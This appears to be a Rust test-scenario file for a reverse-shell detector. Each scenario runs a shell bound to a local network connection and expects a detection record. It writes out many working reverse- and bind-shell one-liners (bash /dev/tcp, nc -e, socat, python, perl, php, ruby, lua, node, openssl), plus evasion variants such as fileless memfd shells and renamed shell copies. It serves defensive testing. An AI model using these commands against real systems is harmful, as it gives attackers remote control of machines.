//! Shells whose input and output are a connection's, in all known ways.
//!
//! Each act checks /proc/PID/fd itself and fails if it does not match the description. Not tested:
//! shells over raw sockets (R21), and shells that live for less than a scan or two.

use super::{Expected, Scenario, Stage, record};

/// A script that begins with functions: those of `looks`, and `peer PORT`, which accepts a
/// connection and closes it when the scenario is over (`peer6`: of either family; `knock PORT`
/// connects instead).
macro_rules! script {
    ($script:literal) => {
        concat!(
            looks!(),
            r#"
peer() {
  python3 -c '
import os, socket, sys, time
server = socket.create_server(("", int(sys.argv[1])))
connection, _ = server.accept()
connection.sendall(sys.argv[2].encode() + b"\n")
while os.path.exists(os.environ["hold"]): time.sleep(0.1)
' $1 "${2:-:}" > /dev/null 2>&1 &
  await "grep -q :$(printf %04X $1).*:0000.0A /proc/net/tcp"
}
peer6() {
  python3 -c '
import os, socket, sys, time
server = socket.create_server(("::", int(sys.argv[1])), family=socket.AF_INET6, dualstack_ipv6=True)
connection, _ = server.accept()
while os.path.exists(os.environ["hold"]): time.sleep(0.1)
' $1 > /dev/null 2>&1 &
  await "grep -q :$(printf %04X $1).*:0000.0A /proc/net/tcp6"
}
knock() {
  python3 -c '
import os, socket, sys, time
connection = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
connection.sendall(b":\n")
while os.path.exists(os.environ["hold"]): time.sleep(0.1)
' $1 > /dev/null 2>&1 &
}
"#,
            $script
        )
    };
}

const fn detected(fields: &'static [(&'static str, &'static str)]) -> Expected {
    record("reverse_shell_detected").with(fields)
}

/// The chain's length, its first process (which has the connection), and the connection's far end.
macro_rules! chain {
    ($direction:literal, $length:literal, $holder:literal, $port:literal $(, $more:tt)*) => {
        &[detected(&[
            ("detection.reason", concat!("~", $direction)),
            ("reverse_shell.process_list.length", $length),
            ("reverse_shell.process_list.0.process_id", $holder),
            ("reverse_shell.process_list.0.network_connection_list.0.destination_port", $port),
            $($more,)*
        ])]
    };
}

/// A scenario in which only behaviour counts.
const fn shell(id: &'static str, name: &'static str) -> Scenario {
    Scenario::new(id, name).stage(Stage::Behaviour)
}

/// The same with programs that not every machine has.
const fn equipped(id: &'static str, name: &'static str) -> Scenario {
    Scenario::new(id, name).stage(Stage::Equipped)
}

pub(super) const SCENARIOS: &[Scenario] = &[
    shell("R01", "bash on a connection of its own")
        .prepare(script!("peer 4401"))
        .act(script!(
            r#"act
            bash -c "bash -i >& /dev/tcp/127.0.0.1/4401 0>&1" < /dev/null > /dev/null 2>&1 &
            who shell 'bash -i'
            await 'at $shell 0 socket:* && same $shell 0 $shell 1 && same $shell 1 $shell 2'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4401",
            ("reverse_shell.process_list.0.network_connection_list.0.destination_ip_address", "127.0.0.1"))),
    shell("R01b", "a peer that sends all its commands at once, and closes its side")
        .prepare(script!(
            r#"python3 -c '
import os, socket, time
server = socket.create_server(("", 4411))
connection, _ = server.accept()
connection.sendall(b"read -r _ < $hold; exit\n")
connection.shutdown(socket.SHUT_WR)
while os.path.exists(os.environ["hold"]): time.sleep(0.1)
' > /dev/null 2>&1 &
            await "grep -q :113B.*:0000.0A /proc/net/tcp""#
        ))
        .act(script!(
            r#"act
            bash -c "bash -i >& /dev/tcp/127.0.0.1/4411 0>&1" < /dev/null > /dev/null 2>&1 &
            who shell 'bash -i'
            await 'at $shell 0 socket:* && same $shell 0 $shell 1 && same $shell 1 $shell 2'
            await 'grep -q ":113B 08" /proc/net/tcp'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4411")),
    shell("R02", "cat, sh and nc in a ring of a FIFO and two pipes")
        .prepare(script!("peer 4402; rm -f /tmp/r02; mkfifo /tmp/r02"))
        .act(script!(
            r#"act
            (cat /tmp/r02 | sh -i 2>&1 | nc 127.0.0.1 4402 > /tmp/r02) < /dev/null > /dev/null 2>&1 &
            who shell 'sh -i'; who cat 'cat /tmp/r02'; who nc 'nc 127.0.0.1 4402'
            await 'at $shell 0 pipe:* && same $shell 0 $cat 1 && same $shell 1 $nc 0 && at $nc 1 /tmp/r02 && at $cat 3 /tmp/r02'
            await 'at $nc 3 socket:*'"#
        ))
        .expect(chain!("outbound", "3", "$nc", "4402",
            ("reverse_shell.process_list.2.process_id", "$shell")))
        .clean("rm -f /tmp/r02"),
    shell("R02b", "sh runs a FIFO that nc writes into")
        .prepare(script!("peer 4432; rm -f /tmp/r02b; mkfifo /tmp/r02b"))
        .act(script!(
            r#"act
            (sh /tmp/r02b 2>&1 | nc 127.0.0.1 4432 > /tmp/r02b) < /dev/null > /dev/null 2>&1 &
            who shell 'sh /tmp/r02b'; who nc 'nc 127.0.0.1 4432'
            await 'at $shell 10 /tmp/r02b && same $shell 1 $nc 0 && at $nc 1 /tmp/r02b && at $nc 3 socket:*'"#
        ))
        .expect(chain!("outbound", "2", "$nc", "4432",
            ("reverse_shell.process_list.1.process_id", "$shell")))
        .clean("rm -f /tmp/r02b"),
    shell("R02c", "bash runs a FIFO that nc writes into")
        .prepare(script!("peer 4442; rm -f /tmp/r02c; mkfifo /tmp/r02c"))
        .act(script!(
            r#"act
            (bash /tmp/r02c 2>&1 | nc 127.0.0.1 4442 > /tmp/r02c) < /dev/null > /dev/null 2>&1 &
            who shell 'bash /tmp/r02c'; who nc 'nc 127.0.0.1 4442'
            await 'at $shell 255 /tmp/r02c && same $shell 1 $nc 0 && at $nc 1 /tmp/r02c && at $nc 3 socket:*'"#
        ))
        .expect(chain!("outbound", "2", "$nc", "4442",
            ("reverse_shell.process_list.1.process_id", "$shell")))
        .clean("rm -f /tmp/r02c"),
    shell("R02d", "sh and bash run a FIFO by another name")
        .prepare(script!("peer 4462; peer 4472; rm -f /tmp/r02d*; mkfifo /tmp/r02d /tmp/r02d-2; ln -s r02d /tmp/r02d-link"))
        .act(script!(
            r#"act
            (sh /tmp/r02d-link 2>&1 | nc 127.0.0.1 4462 > /tmp/r02d) < /dev/null > /dev/null 2>&1 &
            who shell 'sh /tmp/r02d-link'; who nc 'nc 127.0.0.1 4462'
            await 'at $shell 10 /tmp/r02d && same $shell 1 $nc 0 && at $nc 1 /tmp/r02d && at $nc 3 socket:*'
            (bash /proc/self/fd/7 7< /tmp/r02d-2 2>&1 | nc 127.0.0.1 4472 > /tmp/r02d-2) < /dev/null > /dev/null 2>&1 &
            who other 'bash /proc/self/fd/7'; who net 'nc 127.0.0.1 4472'
            await 'at $other 255 /tmp/r02d-2 && same $other 1 $net 0 && at $net 1 /tmp/r02d-2 && at $net 3 socket:*'"#
        ))
        .expect(&[
            detected(&[
                ("reverse_shell.process_list.length", "2"),
                ("reverse_shell.process_list.0.process_id", "$nc"),
                ("reverse_shell.process_list.1.process_id", "$shell"),
            ]),
            detected(&[
                ("reverse_shell.process_list.length", "2"),
                ("reverse_shell.process_list.0.process_id", "$net"),
                ("reverse_shell.process_list.1.process_id", "$other"),
            ]),
        ])
        .clean("rm -f /tmp/r02d*"),
    shell("R03", "nc becomes a shell")
        .prepare(script!("peer 4403"))
        .act(script!(
            r#"act
            nc 127.0.0.1 4403 -e /bin/sh < /dev/null > /dev/null 2>&1 & fact shell $!
            await 'at $shell 0 socket:* && at $shell ../exe /usr/bin/dash'
            same $shell 0 $shell 1"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4403")),
    equipped("R03b", "netcat-traditional becomes bash")
        .prepare(script!("peer 4453"))
        .act(script!(
            r#"act
            nc.traditional 127.0.0.1 4453 -e /bin/bash < /dev/null > /dev/null 2>&1 & fact shell $!
            await 'at $shell ../exe /usr/bin/bash && at $shell 0 socket:*'
            same $shell 0 $shell 1"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4453")),
    equipped("R04", "socat with a pty")
        .prepare(script!("peer 4404"))
        .act(script!(
            r#"act
            socat TCP:127.0.0.1:4404 EXEC:/bin/bash,pty,stderr,setsid,sigint,sane > /dev/null 2>&1 & fact socat $!
            who shell /bin/bash
            await 'at $shell 0 /dev/pts/* && same $shell 0 $shell 1 && at $socat 6 /dev/ptmx && at $socat 5 socket:*'"#
        ))
        .expect(chain!("outbound", "2", "$socat", "4404",
            ("reverse_shell.process_list.1.process_id", "$shell"))),
    equipped("R04b", "a shell on a connection makes itself a pty with script")
        .prepare(script!("peer 4454 'exec script -qc \"bash -i\" /dev/null'"))
        .act(script!(
            r#"act
            nc 127.0.0.1 4454 -e /bin/sh < /dev/null > /dev/null 2>&1 & fact first $!
            who shell 'bash -i'
            await 'at $first ../exe /usr/bin/script && at $first 0 socket:* && at $shell 0 /dev/pts/*'"#
        ))
        .expect(chain!("outbound", "1", "$first", "4454")),
    equipped("R05", "socat with pipes")
        .prepare(script!("peer 4405"))
        .act(script!(
            r#"act
            socat TCP:127.0.0.1:4405 EXEC:/bin/bash,pipes > /dev/null 2>&1 & fact socat $!
            who shell /bin/bash
            await 'at $shell 0 pipe:* && at $shell 1 pipe:* && ! same $shell 0 $shell 1 && at $socat 5 socket:*'"#
        ))
        .expect(chain!("outbound", "2", "$socat", "4405",
            ("reverse_shell.process_list.1.process_id", "$shell"))),
    equipped("R05b", "socat with a socket pair")
        .prepare(script!("peer 4455"))
        .act(script!(
            r#"act
            socat TCP:127.0.0.1:4455 EXEC:/bin/sh > /dev/null 2>&1 & fact socat $!
            who shell /bin/sh
            await 'at $shell 0 socket:* && same $shell 0 $shell 1 && ! same $shell 0 $socat 5'"#
        ))
        .expect(chain!("outbound", "2", "$socat", "4455",
            ("reverse_shell.process_list.1.process_id", "$shell"))),
    shell("R06", "python gives its connection to a shell")
        .prepare(script!("peer 4406"))
        .act(script!(
            r#"act
            python3 -c '
import os, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4406))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])' < /dev/null > /dev/null 2>&1 & fact python $!
            who shell '/bin/sh -i'
            await 'at $shell 0 socket:* && same $shell 0 $python 3'"#
        ))
        .expect(&[detected(&[
            ("detection.reason", "~outbound"),
            ("reverse_shell.process_list.0.network_connection_list.0.destination_port", "4406"),
        ])]),
    shell("R07", "python with a pty")
        .prepare(script!("peer 4407"))
        .act(script!(
            r#"act
            python3 -c '
import os, pty, socket
s = socket.create_connection(("127.0.0.1", 4407))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
            who shell /bin/bash
            await 'at $shell 0 /dev/pts/* && at $python 4 /dev/ptmx && at $python 0 socket:*'"#
        ))
        .expect(chain!("outbound", "2", "$python", "4407",
            ("reverse_shell.process_list.1.process_id", "$shell"))),
    equipped("R09", "two socats, a named AF_UNIX socket between them")
        .prepare(script!(
            "peer 4409
             socat UNIX-LISTEN:/tmp/r09 EXEC:/bin/bash > /dev/null 2>&1 & fact inner $!
             await '[ -S /tmp/r09 ]'"
        ))
        .act(script!(
            r#"act
            socat TCP:127.0.0.1:4409 UNIX-CONNECT:/tmp/r09 > /dev/null 2>&1 & fact outer $!
            who shell /bin/bash
            await 'at $shell 0 socket:* && at $outer 5 socket:* && at $outer 6 socket:*'"#
        ))
        .expect(chain!("outbound", "3", "$outer", "4409",
            ("reverse_shell.process_list.2.process_id", "$shell"))),
    shell("R10", "bash reads and writes another descriptor of a connection")
        .prepare(script!("peer 4410"))
        .act(script!(
            r#"act
            bash -c 'exec 5<>/dev/tcp/127.0.0.1/4410; cat <&5 | while read l; do $l >&5 2>&1; done' < /dev/null > /dev/null 2>&1 &
            who cat cat
            await 'at $cat 0 socket:* && at $cat 1 pipe:*'
            for pid in $(pgrep -f '^bash -c exec 5'); do if at $pid 0 pipe:*; then fact shell $pid; fi; done
            at $shell 5 socket:*"#
        ))
        .expect(&[detected(&[
            ("detection.reason", "~outbound"),
            ("reverse_shell.process_list.0.network_connection_list.0.destination_port", "4410"),
        ])]),
    equipped("R11", "php gives its connection to a shell")
        .prepare(script!("peer 4411"))
        .act(script!(
            r#"act
            php -r '$s = fsockopen("127.0.0.1", 4411); $p = proc_open("sh -i", [$s, $s, $s], $pipes); proc_close($p);' \
              < /dev/null > /dev/null 2>&1 & fact php $!
            who shell 'sh -i'
            await 'at $shell 0 socket:* && same $shell 0 $shell 1'"#
        ))
        .expect(&[detected(&[
            ("detection.reason", "~outbound"),
            ("reverse_shell.process_list.0.network_connection_list.0.destination_port", "4411"),
        ])]),
    equipped("R12", "gawk runs the commands it receives")
        .prepare(script!("peer 4412 'cat'"))
        .act(script!(
            r#"act
            gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/4412"; s |& getline c; while ((c |& getline l) > 0) print l |& s }' \
              < /dev/null > /dev/null 2>&1 & fact gawk $!
            who cat cat
            await 'at $gawk 3 socket:* && ( at $cat 0 pipe:* || at $cat 0 socket:* )'
            seen; kill $cat"#
        ))
        .expect(&[detected(&[("detection.reason", "~outbound")])]),
    equipped("R12b", "ruby becomes a shell")
        .prepare(script!("peer 4462"))
        .act(script!(
            r#"act
            ruby -rsocket -e 's = TCPSocket.new("127.0.0.1", 4462); exec("/bin/sh", "-i", :in => s, :out => s, :err => s)' \
              < /dev/null > /dev/null 2>&1 & fact shell $!
            await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4462")),
    equipped("R12c", "lua lets a shell take its connection")
        .prepare(script!("peer 4463"))
        .act(script!(
            r#"act
            lua -e 'local t = require("socket").tcp(); t:connect("127.0.0.1", "4463"); os.execute("/bin/sh -i <&3 >&3 2>&3")' \
              < /dev/null > /dev/null 2>&1 & fact lua $!
            who shell '/bin/sh -i'
            await 'at $shell 0 socket:* && same $shell 0 $lua 3'"#
        ))
        .expect(&[detected(&[
            ("detection.reason", "~outbound"),
            ("reverse_shell.process_list.0.network_connection_list.0.destination_port", "4463"),
        ])]),
    equipped("R12d", "node relays by socket pairs")
        .prepare(script!("peer 4464"))
        .act(script!(
            r#"act
            node -e 'const sh = require("child_process").spawn("/bin/sh", []);
              const c = require("net").connect(4464, "127.0.0.1", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });' \
              < /dev/null > /dev/null 2>&1 & fact node $!
            who shell /bin/sh
            await 'at $shell 0 socket:* && at $shell 1 socket:* && ! same $shell 0 $shell 1'
            await 'grep -q :1170.0100007F /proc/net/tcp || grep -q 0100007F:1170.01 /proc/net/tcp'"#
        ))
        .expect(chain!("outbound", "2", "$node", "4464",
            ("reverse_shell.process_list.1.process_id", "$shell"))),
    equipped("R12e", "perl becomes a shell")
        .prepare(script!("peer 4465"))
        .act(script!(
            r#"act
            perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4465, inet_aton("127.0.0.1"))) or die;
              open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-i");' < /dev/null > /dev/null 2>&1 & fact shell $!
            await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4465")),
    equipped("R12f", "openssl carries a shell over TLS")
        .prepare(script!(
            "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=r -keyout /tmp/r12f.key -out /tmp/r12f.pem 2> /dev/null
             (hold | timeout 300 openssl s_server -quiet -accept 4466 -key /tmp/r12f.key -cert /tmp/r12f.pem) > /dev/null 2>&1 &
             await 'grep -q :1172.*:0000.0A /proc/net/tcp /proc/net/tcp6'
             rm -f /tmp/r12f; mkfifo /tmp/r12f"
        ))
        .act(script!(
            r#"act
            (/bin/sh -i < /tmp/r12f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4466 > /tmp/r12f 2> /dev/null) < /dev/null > /dev/null 2>&1 &
            who shell '/bin/sh -i'; who openssl 'openssl s_client.*'
            await 'at $shell 0 /tmp/r12f && same $shell 1 $openssl 0 && at $openssl 3 socket:*'"#
        ))
        .expect(chain!("outbound", "2", "$openssl", "4466",
            ("reverse_shell.process_list.1.process_id", "$shell")))
        .clean("pkill -xf 'openssl s_.*' || true; rm -f /tmp/r12f*"),
    shell("R15", "a program of its own becomes a shell, its parent gone")
        .prepare(script!("peer 4415"))
        .act(script!(
            r#"act
            /opt/connect-back 4415 /bin/sh < /dev/null > /dev/null 2>&1
            who shell /bin/sh
            await 'at $shell 0 socket:* && at $shell ../exe /usr/bin/dash'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4415")),
    shell("R15b", "a shell that is a copy under another name")
        .prepare(script!("peer 4425; cp /bin/bash /tmp/.update"))
        .act(script!(
            r#"act
            /opt/connect-back 4425 /tmp/.update < /dev/null > /dev/null 2>&1
            who shell /tmp/.update
            await 'at $shell 0 socket:* && at $shell ../exe /tmp/.update'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4425"))
        .clean("rm -f /tmp/.update"),
    shell("R15c", "a shell that has no file")
        .prepare(script!("peer 4435"))
        .act(script!(
            r#"act
            python3 -c '
import os, socket
s = socket.create_connection(("127.0.0.1", 4435))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
program = os.memfd_create("cache")
os.write(program, open("/bin/dash", "rb").read())
os.execve(program, ["cache-worker"], {})' < /dev/null > /dev/null 2>&1 & fact shell $!
            await 'at $shell ../exe /memfd:* && at $shell 0 socket:*'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4435")),
    shell("R15d", "a static shell under another name")
        .prepare(script!("peer 4445; mkdir -p /tmp/r15; cp /bin/busybox /tmp/r15/sh"))
        .act(script!(
            r#"act
            /opt/connect-back 4445 /tmp/r15/sh < /dev/null > /dev/null 2>&1
            who shell /tmp/r15/sh
            await 'at $shell 0 socket:*'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4445"))
        .clean("rm -rf /tmp/r15"),
    shell("R16", "bash on a UDP socket")
        .prepare(script!(
            "python3 -c '
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 4416)); time.sleep(600)' > /dev/null 2>&1 &
             kept $!
             await 'grep -q :1140 /proc/net/udp'"
        ))
        .act(script!(
            r#"act
            bash -c "bash -i >& /dev/udp/127.0.0.1/4416 0>&1" < /dev/null > /dev/null 2>&1 &
            who shell 'bash -i'
            await 'at $shell 0 socket:* && same $shell 0 $shell 1'
            seen; kill -9 $shell"#
        ))
        .expect(&[detected(&[("detection.reason", "~127.0.0.1")])]),
    equipped("R16b", "socat carries a shell over UDP")
        .prepare(script!(
            "socat UDP-LISTEN:4426 EXEC:cat > /dev/null 2>&1 & fact far $!
             await 'grep -q :114A /proc/net/udp'"
        ))
        .act(script!(
            r#"act
            socat UDP:127.0.0.1:4426 'EXEC:sh -i,stderr' > /dev/null 2>&1 & fact socat $!
            who shell 'sh -i'
            await 'at $shell 0 socket:*'
            seen; kill $socat $shell"#
        ))
        .expect(&[detected(&[("reverse_shell.process_list.0.process_id", "$socat")])])
        .clean("pkill -x socat || true"),
    shell("R17", "a bind shell: nc accepts and becomes a shell")
        .prepare(script!(
            "nc -lp 4417 -e /bin/sh < /dev/null > /dev/null 2>&1 & fact shell $!
             await 'grep -q :1141.*:0000.0A /proc/net/tcp /proc/net/tcp6'"
        ))
        .act(script!(
            r#"act
            knock 4417
            await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'"#
        ))
        .expect(&[detected(&[
            ("detection.reason", "~accepted"),
            ("reverse_shell.process_list.length", "1"),
            ("reverse_shell.process_list.0.process_id", "$shell"),
            ("reverse_shell.process_list.0.network_connection_list.0.source_port", "4417"),
        ])]),
    equipped("R17b", "a bind shell: socat accepts and forks, with a pty")
        .prepare(script!(
            "socat TCP-LISTEN:4427,fork,reuseaddr EXEC:/bin/sh,pty,stderr,setsid > /dev/null 2>&1 & fact listener $!
             await 'grep -q :114B.*:0000.0A /proc/net/tcp'"
        ))
        .act(script!(
            r#"act
            knock 4427
            who shell /bin/sh
            await 'at $shell 0 /dev/pts/*'"#
        ))
        .expect(&[detected(&[
            ("detection.reason", "~accepted"),
            ("reverse_shell.process_list.length", "2"),
            ("reverse_shell.process_list.1.process_id", "$shell"),
            ("reverse_shell.process_list.0.network_connection_list.0.source_port", "4427"),
        ])])
        .clean("kill $listener"),
    shell("R18", "bash on a connection of IPv6")
        .prepare(script!("peer6 4418"))
        .act(script!(
            r#"act
            bash -c "bash -i >& /dev/tcp/::1/4418 0>&1" < /dev/null > /dev/null 2>&1 &
            who shell 'bash -i'
            await 'at $shell 0 socket:*'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4418",
            ("reverse_shell.process_list.0.network_connection_list.0.destination_ip_address", "::1"))),
    shell("R18b", "a shell on a connection of IPv4 by an IPv6 socket")
        .prepare(script!("peer6 4428"))
        .act(script!(
            r#"act
            python3 -c '
import os, socket
s = socket.socket(socket.AF_INET6); s.connect(("::ffff:127.0.0.1", 4428))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])' < /dev/null > /dev/null 2>&1 & fact shell $!
            await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4428")),
    shell("R19", "a shell moves its connection to other descriptors")
        .prepare(script!("peer 4419 'exec 9<&0 0</dev/null; while read -ru 9 line; do eval \"$line\"; done'"))
        .act(script!(
            r#"act
            bash -c "bash -i >& /dev/tcp/127.0.0.1/4419 0>&1" < /dev/null > /dev/null 2>&1 &
            who shell 'bash -i'
            await 'at $shell 9 socket:* && at $shell 0 /dev/null'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4419")),
    shell("R20", "ten shells, each for a tenth of a second")
        .prepare(script!(
            "python3 -c '
import socket, time
server = socket.create_server((\"\", 4420))
while True:
    connection, _ = server.accept()
    connection.sendall(b\"sleep 0.1; exit\\n\")' > /dev/null 2>&1 &
             kept $!
             await 'grep -q :1144.*:0000.0A /proc/net/tcp'"
        ))
        .act(script!(
            r#"act
            until come || ((SECONDS > 60)); do
              bash -c "sh >& /dev/tcp/127.0.0.1/4420 0>&1" < /dev/null > /dev/null 2>&1
            done"#
        ))
        // A slow watcher misses some of these shells: more are started until it has found ten.
        .expect(&[detected(&[("detection.reason", "~outbound")])
            .at_least(10)
            .distinct("reverse_shell.process_list.0.process_id")]),
    equipped("R22", "a shell through a proxy that connects on request")
        .prepare(script!(
            "peer 4431
             socat TCP-LISTEN:4432 TCP:127.0.0.1:4431 > /dev/null 2>&1 & fact proxy $!
             await 'grep -q :1150.*:0000.0A /proc/net/tcp'"
        ))
        .act(script!(
            r#"act
            bash -c "bash -i >& /dev/tcp/127.0.0.1/4432 0>&1" < /dev/null > /dev/null 2>&1 &
            who shell 'bash -i'
            await 'at $shell 0 socket:* && at $proxy 5 socket:*'"#
        ))
        // The shell exists before the proxy has gone on.
        .expect(&[detected(&[("detection.reason", "~outbound")])]),
    equipped("R22b", "a shell behind a proxy on the same machine")
        .prepare(script!(
            "peer 4441
             socat TCP-LISTEN:4442 TCP:127.0.0.1:4441 > /dev/null 2>&1 & fact proxy $!
             await 'grep -q :115A.*:0000.0A /proc/net/tcp'
             python3 -c '
import os, socket, time
s = socket.create_connection((\"127.0.0.1\", 4442))
while not os.path.exists(\"/tmp/r22\"): time.sleep(0.05)
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
os.execv(\"/bin/sh\", [\"sh\", \"-i\"])' < /dev/null > /dev/null 2>&1 & fact shell $!
             await 'at $proxy 5 socket:*'"
        ))
        .act(script!(
            r#"act
            touch /tmp/r22
            await 'at $shell ../exe /usr/bin/dash'"#
        ))
        .expect(chain!("outbound", "2", "$proxy", "4441",
            ("reverse_shell.process_list.1.process_id", "$shell")))
        .clean("rm /tmp/r22"),
    shell("R23", "bash on a connection to another machine")
        .prepare(script!(
            r#"unshare -n sleep 6000 > /dev/null 2>&1 & fact far $!
            await '[ "$(readlink /proc/$far/ns/net)" != "$(readlink /proc/self/ns/net)" ]'
            ip link add r23 type veth; ip link set veth0 netns $far
            ip addr add 192.0.2.1/24 dev r23; ip link set r23 up
            nsenter -t $far -n ip addr add 192.0.2.2/24 dev veth0; nsenter -t $far -n ip link set veth0 up
            (hold | nsenter -t $far -n timeout 300 nc -lp 4423) > /dev/null 2>&1 &
            await 'nsenter -t $far -n cat /proc/net/tcp /proc/net/tcp6 | grep -q :1147.*:0000.0A'"#
        ))
        .act(script!(
            r#"act
            bash -c "bash -i >& /dev/tcp/192.0.2.2/4423 0>&1" < /dev/null > /dev/null 2>&1 &
            who shell 'bash -i'
            await 'at $shell 0 socket:*'
            seen; kill -9 $shell"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4423",
            ("reverse_shell.process_list.0.network_connection_list.0.destination_ip_address", "192.0.2.2")))
        .clean("kill $far; ip link del r23 || true"),
    shell("R24", "commands come over one connection, answers go over another")
        .prepare(script!("peer 4461; peer 4471"))
        .act(script!(
            r#"act
            (hold | nc 127.0.0.1 4461 | sh 2>&1 | nc 127.0.0.1 4471) < /dev/null > /dev/null 2>&1 &
            who shell sh; who first 'nc 127.0.0.1 4461'; who second 'nc 127.0.0.1 4471'
            await 'same $shell 0 $first 1 && same $shell 1 $second 0 && at $first 3 socket:* && at $second 3 socket:*'"#
        ))
        .expect(&[detected(&[
            ("detection.reason", "~outbound"),
            ("reverse_shell.process_list.length", "3"),
        ])]),
    shell("R25", "a language's interpreter reads its program from a connection")
        .prepare(script!("peer 4481 'import time; time.sleep(1)'"))
        .act(script!(
            r#"act
            /opt/connect-back 4481 /usr/bin/python3 < /dev/null > /dev/null 2>&1
            who shell /usr/bin/python3
            await 'at $shell 0 socket:* && same $shell 0 $shell 1'"#
        ))
        .expect(chain!("outbound", "1", "$shell", "4481")),
];
